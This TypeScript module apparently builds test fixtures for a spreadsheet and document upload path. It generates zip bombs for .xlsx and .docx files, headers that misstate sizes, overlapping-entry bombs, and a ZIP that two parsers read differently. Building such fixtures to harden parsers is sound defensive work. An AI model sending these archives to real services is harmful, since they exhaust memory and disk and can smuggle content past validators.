import { constants, crc32, deflateRawSync } from 'node:zlib'

/** One file of a ZIP archive, already packed; `declaredSize` is what the headers claim it unpacks to. */
export interface ZipPart {
  name: string
  packed: Buffer
  method: typeof STORED | typeof DEFLATED
  size: number
  crc: number
  declaredSize?: number
  /** Another part's name: this entry points at that part's data instead of having its own. */
  sharesDataOf?: string
  /** Sizes left to a ZIP64 extra field in the local header, as Python's `force_zip64` writes them. */
  zip64?: boolean
}

const STORED = 0
const DEFLATED = 8

function deflatedPart(name: string, text: string): ZipPart {
  const bytes = Buffer.from(text)
  return { name, packed: deflateRawSync(bytes, { level: 9 }), method: DEFLATED, size: bytes.length, crc: crc32(bytes) }
}

function storedPart(name: string, text: string): ZipPart {
  const bytes = Buffer.from(text)
  return { name, packed: bytes, method: STORED, size: bytes.length, crc: crc32(bytes) }
}

/**
 * A part that unpacks to `head`, then `unit` repeated until about `size` bytes, then `tail`, while
 * its deflated form stays around a thousandth of that. One megabyte of units is deflated once with
 * a full flush (byte-aligned, no back-references into what came before), and those bytes are
 * repeated: valid DEFLATE that every inflater reads, as a real bomb's would be.
 */
function repeatedPart(name: string, head: string, unit: string, size: number, tail: string): ZipPart {
  const chunk = Buffer.from(unit.repeat(Math.max(1, Math.floor(2 ** 20 / unit.length))))
  const chunks = Math.max(1, Math.round(size / chunk.length))
  const flushed = (bytes: Buffer) => deflateRawSync(bytes, { level: 9, finishFlush: constants.Z_FULL_FLUSH })
  const packedChunk = flushed(chunk)
  const packed = Buffer.concat([
    flushed(Buffer.from(head)),
    ...Array.from({ length: chunks }, () => packedChunk),
    deflateRawSync(Buffer.from(tail), { level: 9 }),
  ])
  let crc = crc32(head)
  for (let index = 0; index < chunks; index++) crc = crc32(chunk, crc)
  crc = crc32(tail, crc)
  return { name, packed, method: DEFLATED, size: head.length + chunks * chunk.length + tail.length, crc }
}

const signed = (signature: number, length: number) => {
  const buffer = Buffer.alloc(length)
  buffer.writeUInt32LE(signature, 0)
  return buffer
}

/** The parts' local headers and data, written from `offset` on, and their central directory. */
function entries(parts: ZipPart[], offset: number) {
  const locals: Buffer[] = []
  const central: Buffer[] = []
  const offsets = new Map<string, number>()
  let at = offset
  for (const part of parts) {
    const name = Buffer.from(part.name)
    const size = part.declaredSize ?? part.size
    const shared = part.sharesDataOf === undefined ? undefined : offsets.get(part.sharesDataOf)
    if (shared === undefined) {
      const local = signed(0x04034b50, 30)
      local.writeUInt16LE(part.zip64 ? 45 : 20, 4) // version needed
      local.writeUInt16LE(part.method, 8)
      local.writeUInt32LE(part.crc, 14)
      local.writeUInt32LE(part.zip64 ? 0xffffffff : part.packed.length, 18)
      local.writeUInt32LE(part.zip64 ? 0xffffffff : size, 22)
      local.writeUInt16LE(name.length, 26)
      const extra = Buffer.alloc(part.zip64 ? 20 : 0)
      if (part.zip64) {
        extra.writeUInt16LE(0x0001, 0)
        extra.writeUInt16LE(16, 2)
        extra.writeBigUInt64LE(BigInt(size), 4)
        extra.writeBigUInt64LE(BigInt(part.packed.length), 12)
      }
      local.writeUInt16LE(extra.length, 28)
      locals.push(local, name, extra, part.packed)
      offsets.set(part.name, at)
      at += local.length + name.length + extra.length + part.packed.length
    }
    const entry = signed(0x02014b50, 46)
    entry.writeUInt16LE(20, 4) // version made by
    entry.writeUInt16LE(20, 6) // version needed
    entry.writeUInt16LE(part.method, 10)
    entry.writeUInt32LE(part.crc, 16)
    entry.writeUInt32LE(part.packed.length, 20)
    entry.writeUInt32LE(size, 24)
    entry.writeUInt16LE(name.length, 28)
    entry.writeUInt32LE(shared ?? offsets.get(part.name)!, 42)
    central.push(entry, name)
  }
  return { locals: Buffer.concat(locals), directory: Buffer.concat(central), count: parts.length }
}

/** The end-of-directory record of `count` entries whose directory is `size` bytes at `offset`. */
function endRecord(count: number, size: number, offset: number, comment = Buffer.alloc(0)) {
  const end = signed(0x06054b50, 22)
  end.writeUInt16LE(count, 8)
  end.writeUInt16LE(count, 10)
  end.writeUInt32LE(size, 12)
  end.writeUInt32LE(offset, 16)
  end.writeUInt16LE(comment.length, 20)
  return Buffer.concat([end, comment])
}

const bytesOf = (buffer: Buffer) =>
  new Uint8Array(buffer.buffer, buffer.byteOffset, buffer.length) as Uint8Array<ArrayBuffer>

/** A ZIP archive of the parts, as a file system would store it (no data descriptors). */
export function zipArchive(parts: ZipPart[]): Uint8Array<ArrayBuffer> {
  const { locals, directory, count } = entries(parts, 0)
  return bytesOf(Buffer.concat([locals, directory, endRecord(count, directory.length, locals.length)]))
}

/**
 * An archive that yauzl reads as `shown` and SheetJS as `hidden`: the end record yauzl looks for
 * lies 22 bytes or more before the end of the file, and its comment ends with the first 20 bytes
 * of another, later in the file, which SheetJS (searching from the very end) finds first.
 */
export function twoFacedArchive(shown: ZipPart[], hidden: ZipPart[]): Uint8Array<ArrayBuffer> {
  const secret = entries(hidden, 0)
  const visible = entries(shown, secret.locals.length)
  const secretDirectoryAt = secret.locals.length + visible.locals.length
  const visibleDirectoryAt = secretDirectoryAt + secret.directory.length
  const comment = endRecord(secret.count, secret.directory.length, secretDirectoryAt).subarray(0, 20)
  return bytesOf(
    Buffer.concat([
      secret.locals,
      visible.locals,
      secret.directory,
      visible.directory,
      endRecord(visible.count, visible.directory.length, visibleDirectoryAt, comment),
    ]),
  )
}

const XML = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006'
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'

const contentTypes = (overrides: Record<string, string>) =>
  `${XML}<Types xmlns="${PACKAGE}/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>${Object.entries(
    overrides,
  )
    .map(([part, type]) => `<Override PartName="/${part}" ContentType="${type}"/>`)
    .join('')}</Types>`

const relationships = (targets: Record<string, string>) =>
  `${XML}<Relationships xmlns="${PACKAGE}/relationships">${Object.entries(targets)
    .map(([target, type], index) => `<Relationship Id="rId${index + 1}" Type="${OFFICE}/${type}" Target="${target}"/>`)
    .join('')}</Relationships>`

const SHEET_HEAD = `${XML}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`
const SHEET_TAIL = '</sheetData></worksheet>'

/** The parts of a one-sheet workbook around its sheet, which the caller supplies. */
export function workbookParts(sheet: ZipPart): ZipPart[] {
  return [
    deflatedPart(
      '[Content_Types].xml',
      contentTypes({
        'xl/workbook.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
        'xl/worksheets/sheet1.xml': 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml',
      }),
    ),
    deflatedPart('_rels/.rels', relationships({ 'xl/workbook.xml': 'officeDocument' })),
    deflatedPart(
      'xl/workbook.xml',
      `${XML}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheets><sheet name="Forecast" sheetId="1" r:id="rId1"/></sheets></workbook>`,
    ),
    deflatedPart('xl/_rels/workbook.xml.rels', relationships({ 'worksheets/sheet1.xml': 'worksheet' })),
    sheet,
  ]
}

/** A sheet of inline-string rows, as an ordinary upload's. */
export function sheetPart(rows: string[][], { stored = false } = {}): ZipPart {
  const cells = rows
    .map(
      (row, index) =>
        `<row r="${index + 1}">${row.map((value) => `<c t="inlineStr"><is><t>${value}</t></is></c>`).join('')}</row>`,
    )
    .join('')
  return (stored ? storedPart : deflatedPart)('xl/worksheets/sheet1.xml', `${SHEET_HEAD}${cells}${SHEET_TAIL}`)
}

/** A sheet of `size` bytes of XML: the same row of numbers over and over, packed to about a thousandth. */
export function bombSheet(size: number): ZipPart {
  const row = '<row><c><v>1234567</v></c><c><v>7654321</v></c><c><v>1111111</v></c></row>'
  return repeatedPart('xl/worksheets/sheet1.xml', SHEET_HEAD, row, size, SHEET_TAIL)
}

/** An .xlsx whose one sheet is `size` bytes of XML (1 GB in ~4 MB); `declaredSize` makes its headers lie. */
export function workbookBomb(size: number, { declaredSize }: { declaredSize?: number } = {}) {
  return zipArchive(workbookParts({ ...bombSheet(size), declaredSize }))
}

/** A .docx whose body is `size` bytes of XML: one paragraph over and over. */
export function wordBomb(size: number) {
  const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const paragraph = '<w:p><w:r><w:t>Exit planning.</w:t></w:r></w:p>'
  return zipArchive([
    deflatedPart(
      '[Content_Types].xml',
      contentTypes({
        'word/document.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
      }),
    ),
    deflatedPart('_rels/.rels', relationships({ 'word/document.xml': 'officeDocument' })),
    repeatedPart(
      'word/document.xml',
      `${XML}<w:document xmlns:w="${main}"><w:body>`,
      paragraph,
      size,
      '</w:body></w:document>',
    ),
  ])
}

/**
 * A workbook with `count` further entries that all point at one deflated part of `size` bytes, the
 * overlapping-entries bomb: the file holds that part once, a reader unpacks it once per entry.
 */
export function overlappingWorkbook(count: number, size: number) {
  const shared = repeatedPart('xl/media/shared.xml', '', 'A', size, '')
  const copies = Array.from({ length: count }, (_, index) => ({
    ...shared,
    name: `xl/media/copy${index}.xml`,
    sharesDataOf: shared.name,
  }))
  return zipArchive([...workbookParts(sheetPart([])), shared, ...copies])
}
